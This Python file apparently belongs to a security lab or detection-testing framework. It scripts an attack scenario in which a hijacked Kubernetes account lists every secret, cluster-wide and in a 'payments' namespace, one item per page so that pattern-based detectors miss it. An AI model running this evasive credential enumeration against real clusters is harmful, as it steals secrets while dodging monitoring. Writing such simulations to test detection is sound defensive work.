"""All secrets are listed one by one, page by page, with queries that no pattern of addresses expects."""

from typing import Any
from urllib.parse import quote

from lab.client import Client
from lab.story import Scenario, Stage

_PAGES = 15


def _turn(thief: Client, path: str) -> int:
    """Read a list of secrets in pages of one; the number of pages."""
    token, pages = "", 0
    while pages < _PAGES:
        answer = thief.get(f"{path}{f'&continue={quote(token)}' if token else ''}")
        pages += 1
        metadata: Any = answer.json.get("metadata") or {}
        token = metadata.get("continue") or ""
        if not token:
            break
    return pages


def _play(stage: Stage) -> None:
    thief = stage.hijack("carol")
    with stage.step("turn the pages of all secrets", thief, "credential-access", ("F03", "F04", "F05", "F06", "N09")):
        if _turn(thief, "/api/v1/secrets?limit=1") < 2:
            raise RuntimeError("the list was not cut into pages")
    place = "/api/v1/namespaces/payments/secrets"
    with stage.step("turn them in one namespace", thief, "credential-access", ("F03", "F06")):
        _turn(thief, f"{place}?timeoutSeconds=30&limit=1&pretty=false&resourceVersion=")


SCENARIO = Scenario(
    "paged-secrets",
    "All secrets are listed page by page",
    "attack",
    "read every secret in answers of one",
    ("T1552.007",),
    _play,
)
